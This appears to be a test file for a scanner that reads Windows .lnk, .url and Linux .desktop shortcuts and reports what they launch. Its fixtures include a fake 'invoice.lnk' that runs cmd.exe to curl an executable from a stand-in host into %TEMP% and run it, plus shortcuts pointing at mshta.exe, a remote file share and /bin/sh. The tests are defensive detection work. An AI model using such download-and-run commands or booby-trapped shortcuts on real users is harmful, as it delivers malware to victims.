"""Shortcuts: what they start."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from gatepost.checks.content.formats.format import Trait
from tests.checks.content.formats.looking import links, looked, traits, words

NAMED, RELATIVE, ARGUMENTS, WIDE = 4, 8, 32, 128


def shortcut(flags: int, *strings: str, rest: bytes = b"") -> bytes:
    header = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + flags.to_bytes(
        4, "little"
    )
    wide = bool(flags & WIDE)
    parts = [
        len(text).to_bytes(2, "little") + text.encode("utf-16-le" if wide else "windows-1252")
        for text in strings
    ]
    return header.ljust(76, b"\x00") + b"".join(parts) + rest


def test_what_is_started_is_told_with_its_arguments() -> None:
    for wide in (0, WIDE):
        octets = shortcut(
            RELATIVE | ARGUMENTS | wide,
            r"..\cmd.exe",
            "/c curl https://x.test/a -o %TEMP%\\a.exe & %TEMP%\\a.exe",
        )
        items = looked(octets, "invoice.lnk")
        assert r"starts ..\cmd.exe; with the arguments /c curl https://x.test/a" in words(
            items, Trait.SHORTCUT
        )
        assert "https://x.test/a" in links(items)


def test_a_target_that_stands_in_the_blocks_behind_is_told() -> None:
    octets = shortcut(WIDE, rest="C:\\Windows\\System32\\mshta.exe".encode("utf-16-le"))
    assert "points to C:\\Windows\\System32\\mshta.exe" in words(looked(octets), Trait.SHORTCUT)


def test_shortcuts_that_are_text_are_read_too() -> None:
    items = looked(
        b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/a.exe\r\nIconFile=x.ico\r\n", "a.url"
    )
    assert links(items)[0] == "file://198.51.100.7/share/a.exe"
    assert "starts /bin/sh" in words(looked(b"[Desktop Entry]\nExec=/bin/sh -c x\n"), Trait.SHORTCUT)


@given(st.integers(0, 255), st.binary(max_size=300))
def test_any_flags_over_any_octets_are_read(flags: int, rest: bytes) -> None:
    assert Trait.SHORTCUT in traits(looked(shortcut(flags, rest=rest), "a.lnk"))
